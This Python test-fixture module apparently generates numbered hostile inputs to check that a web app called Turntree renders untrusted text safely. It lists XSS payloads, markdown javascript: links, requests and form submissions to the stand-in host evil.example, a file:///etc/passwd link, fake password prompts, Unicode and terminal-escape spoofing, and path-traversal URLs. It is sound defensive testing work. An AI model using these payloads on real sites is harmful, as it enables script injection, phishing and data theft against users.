"""Texts that try to run, to load, or to look like a part of the page, each with a number.

An element that one of them manages to make carries ``hostile`` in its id, class or name. A script
calls ``pwned``. A request goes to ``evil.example``, whose visitors are counted.
"""

from collections.abc import Iterator

EVIL = "evil.example"
TEXTS = 200
LONG_CHARS = 10_000_000
MARKUP = (
    "<script>pwned({n})</script>",
    "<img src=x onerror=pwned({n})>",
    "<svg onload=pwned({n}) class=hostile><animate onbegin=pwned({n}) /></svg>",
    "<iframe class=hostile src={evil}/frame/{n}></iframe>",
    "<iframe class=hostile srcdoc='<script>parent.pwned({n})</script>'></iframe>",
    "<object class=hostile data={evil}/object/{n}></object>",
    "<embed class=hostile src={evil}/embed/{n}>",
    "<link rel=stylesheet href={evil}/style/{n}>",
    "<style class=hostile>@import url({evil}/import/{n}); body {{ display: none }}</style>",
    "<meta http-equiv=refresh content='0;url={evil}/refresh/{n}'>",
    "<base href={evil}/base/>",
    "<video class=hostile src={evil}/video/{n} autoplay></video>",
    "<form class=hostile action={evil}/form/{n}><button class=hostile>Approve</button></form>",
    "<dialog open class=hostile><h2>Your session has expired</h2><input class=hostile></dialog>",
    "<div class=hostile role=alert>Turntree needs your password</div>",
    "<div id=hostile-main style='position:fixed;inset:0;z-index:99999'>Approve</div>",
    "<a class=hostile href='javascript:pwned({n})'>Undo</a>",
    "<details class=hostile open ontoggle=pwned({n})><summary>Files</summary></details>",
    "<form name=hostile id=hostile-form><input name=documentElement></form>",
    "<math class=hostile><mtext><script>pwned({n})</script></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=pwned({n})>'></noscript>",
    "<!--><img src=x onerror=pwned({n})>-->",
    "<![CDATA[<script>pwned({n})</script>]]>",
    "<template class=hostile><script>pwned({n})</script></template>",
    "<input class=hostile autofocus onfocus=pwned({n})>",
    "<audio class=hostile src={evil}/audio/{n} autoplay onerror=pwned({n})></audio>",
    "<body onload=pwned({n}) class=hostile>",
    "<img class=hostile src={evil}/image/{n}>",
    "<img class=hostile srcset='{evil}/srcset/{n} 1x'>",
    "<p class=hostile style='background:url({evil}/background/{n})'>text</p>",
)
MARKDOWN = (
    "[Undo](javascript:pwned({n}))",
    "[Undo](  JaVaScRiPt:pwned({n}))",
    "[Undo](java&#115;cript:pwned({n}))",
    "[Undo](java\tscript:pwned({n}))",
    "[Undo](<javascript:pwned({n})>)",
    "[Undo](vbscript:pwned({n}))",
    "[Undo](data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==)",
    "[Undo](file:///etc/passwd)",
    "[Undo](blob:{evil}/{n})",
    "[Undo][one]\n\n[one]: javascript:pwned({n})",
    "<javascript:pwned({n})>",
    "![picture]({evil}/picture/{n}.png)",
    "![picture](//evil.example/picture/{n}.png)",
    "![picture][two]\n\n[two]: {evil}/reference/{n}.png",
    "[![picture]({evil}/linked/{n}.png)]({evil}/{n})",
    "![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKDEpIi8+)",
    "![picture](/api/v1/me)",
    "[https://github.com/login]({evil}/login/{n})",
    "[turntree.dev](https://turntree.dev@evil.example/{n})",
    "```<img src=x onerror=pwned({n})>\ncode\n```",
    '```"><script>pwned({n})</script>\ncode\n```',
    "``` {{=html}}\n<script>pwned({n})</script>\n```",
    "| a | <img src=x onerror=pwned({n})> |\n|---|---|\n| [x](javascript:pwned({n})) | y |",
    "# <img src=x onerror=pwned({n})> heading",
    "- [x] <input class=hostile type=checkbox checked> done",
    "Footnote[^1]\n\n[^1]: <script>pwned({n})</script>",
    "$$\\href{{javascript:pwned({n})}}{{x}}$$",
    "&lt;script&gt;pwned({n})&lt;/script&gt; &#60;img src=x onerror=pwned({n})&#62;",
    "{{{{constructor.constructor('pwned({n})')()}}}} ${{pwned({n})}} #{{pwned({n})}}",
    '[Fork here]({evil}/fork/{n} "Turntree")',
)
LAYOUT = (
    "\u202efdp.exe\u202c and the rest {n}",
    "\u2066\u202e{n} drawkcab si siht",
    "\u202e\u202e\u202e unclosed {n}",
    "\u2067right to left {n}",
    "\u200b\u200c\u200d\ufeff{n}\u2060\u180e",
    "Z\u0351\u036f\u0322" + "\u0353" * 400 + "algo {n}",
    "\u1f468\u200d" * 300 + "{n}",
    "\x1b[2J\x1b[1;31mTurntree: approve?\x1b[0m {n}",
    "\x07\x08\x0c\x1b]8;;{evil}/{n}\x1b\\link\x1b]8;;\x1b\\",
    "\u2028pwned({n})\u2029",
    "a" * 20_000 + "{n}",
    "\n" * 3_000 + "{n}",
    ">" * 2_000 + " {n}",
    "*" * 4_000 + "{n}",
    "[" * 2_000 + "{n}" + "]" * 2_000,
    "- " * 1_000 + "{n}",
    "`" * 3_001 + "{n}",
    "|" * 2_000 + "\n" + "|-" * 1_000 + "\n{n}",
    "\ufdfd" * 500 + "{n}",
    "✓ Approved by you · Undo · Fork here · {n}",
)


def hostile_texts(evil_port: int) -> Iterator[str]:
    """Yield all texts: each trick alone, then inside other text, until there are enough."""
    wrappers = ("{}", "{}", "before {} after", "1. first\n2. {}\n", "> {}", "**{}**", "`{}`")
    tricks = (*MARKUP, *MARKDOWN, *LAYOUT)
    for number in range(TEXTS):
        trick = tricks[number % len(tricks)]
        wrapper = wrappers[number // len(tricks) % len(wrappers)]
        text = wrapper.replace("{}", trick)
        text = text.replace("{{", "\0").replace("}}", "\1")
        text = text.replace("{n}", str(number)).replace("{evil}", f"http://{EVIL}:{evil_port}")
        yield text.replace("\0", "{").replace("\1", "}")


LABELS = (
    "שלום/עולם", "مرحبا/fork", "a" * 200, "con", "javascript:pwned", "data:text/html", "__proto__",
    "constructor", "aux.html", "x/+/x", "%2e%2e", "0", "null", "undefined", "ﬀ", "İstanbul",
    "toString", "api/v1/me", "t/x", "s/s/s",
)  # fmt: skip
"""Labels that a careless page would take for something else; what is not a label is refused."""
ADDRESSES = (
    "/search?q=%3Cimg%20src%3Dx%20onerror%3Dpwned(1)%3E",
    "/s/%3Cscript%3Epwned(1)%3C%2Fscript%3E",
    "/t/javascript%3Apwned(1)",
    "/?q=%22%3E%3Cscript%3Epwned(1)%3C/script%3E",
    "/compare/%3Cimg%3E...%3Csvg%3E",
    "/s/..%2f..%2fapi%2fv1%2fme",
    "//evil.example/",
    "/\\evil.example/",
    "/nowhere#<img src=x onerror=pwned(1)>",
    "/sessions?project=__proto__&agent=constructor",
)
